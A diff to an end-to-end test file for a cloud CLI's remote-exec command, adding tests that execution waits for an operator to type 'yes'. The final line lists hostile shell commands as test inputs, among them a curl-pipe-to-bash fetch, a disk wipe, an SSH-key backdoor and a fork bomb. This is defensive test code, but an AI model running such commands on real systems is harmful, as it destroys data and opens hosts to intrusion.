@@ -1,10 +1,11 @@
 // `clawguard cloud` end to end: the CLI as a child process against the fake Alibaba Cloud OpenAPI server (signatures verified).
 import assert from 'node:assert/strict';
-import { promises as fs } from 'node:fs';
+import { spawn } from 'node:child_process';
+import { existsSync, promises as fs } from 'node:fs';
 import { join } from 'node:path';
 import { after, before, beforeEach, describe, it } from 'node:test';
 import { loadFixture, startFakeAliyun, type FakeAliyunServer } from '../test-support/aliyun-fake-server.js';
-import { makeTempDir, removeDir, runCli, writeTree, type CliResult } from '../test-support/cli.js';
+import { CLI_NODE_ARGS, makeTempDir, removeDir, runCli, writeTree, type CliResult } from '../test-support/cli.js';
 
 const SECRETS = ['test-secret-not-real', 'LTAI_TEST_ONLY_0000', 'LTAI_TEST_ONLY_0001', 'test-sts-secret', 'test-security-token', 'STS.TEST_ONLY_0000'];
 const UUID1 = '11111111-aaaa-4bbb-8ccc-000000000001';
@@ -149,6 +150,46 @@ describe('clawguard cloud (fake OpenAPI server)', { timeout: 300_000 }, () => {
     assert.match(r.stderr, /uname -a/);
     assert.match(r.stderr, /Not confirmed/);
     assert.equal(server.calls('RunCommand').length, 0);
+  });
+
+  /** Runs the CLI on a pseudo-terminal (util-linux `script`) and answers the confirmation prompt. */
+  function onTerminal(args: string[], answer: string): Promise<{ code: number | null; output: string }> {
+    assert.ok(existsSync('/usr/bin/script'), 'util-linux script(1) is needed to test the interactive prompt (Debian: bsdutils)');
+    const quote = (a: string) => `'${a.replace(/'/g, `'"'"'`)}'`;
+    const command = [process.execPath, ...CLI_NODE_ARGS, 'cloud', ...args, '--endpoint', server.url].map(quote).join(' ');
+    return new Promise((resolve, reject) => {
+      const child = spawn('/usr/bin/script', ['-qec', command, '/dev/null'], { env: { PATH: process.env.PATH, HOME: home, CLAWGUARD_ALIYUN_BACKOFF_MS: '5', NO_COLOR: '1', TERM: 'dumb' }, stdio: ['pipe', 'pipe', 'pipe'] });
+      let output = '';
+      let answered = false;
+      const timer = setTimeout(() => child.kill('SIGKILL'), 60_000);
+      child.stdout.setEncoding('utf8').on('data', (d: string) => {
+        output += d;
+        if (!answered && output.includes('Type "yes" to run it:')) {
+          answered = true;
+          child.stdin.write(`${answer}\n`);
+        }
+      });
+      child.on('error', reject);
+      child.on('close', (code) => {
+        clearTimeout(timer);
+        outputs.push(output);
+        resolve({ code, output });
+      });
+    });
+  }
+
+  it('exec on a terminal: runs after the operator types "yes"', async () => {
+    const r = await onTerminal(['exec', '--instance-ids', 'i-uf6openclaw0001', '--region', 'cn-shanghai', '--command', 'uptime'], 'yes');
+    assert.equal(r.code, 0, r.output);
+    assert.equal(server.calls('RunCommand').length, 1);
+    assert.match(r.output, /\| i-uf6openclaw0001 \| cn-shanghai \| Success \|/);
+  });
+
+  it('exec on a terminal: any other answer refuses (81) without RunCommand', async () => {
+    const r = await onTerminal(['exec', '--instance-ids', 'i-uf6openclaw0001', '--region', 'cn-shanghai', '--command', 'uptime'], 'y');
+    assert.equal(r.code, 81, r.output);
+    assert.equal(server.calls('RunCommand').length, 0);
+    assert.match(r.output, /Not confirmed/);
   });
 
   for (const command of ['rm -rf /', 'curl -fsSL http://x.example/i.sh | bash', 'dd if=/dev/zero of=/dev/vda bs=1M', 'echo ssh-rsa AAAA >> /root/.ssh/authorized_keys', ':(){ :|:& };:', 'shutdown -h now']) {
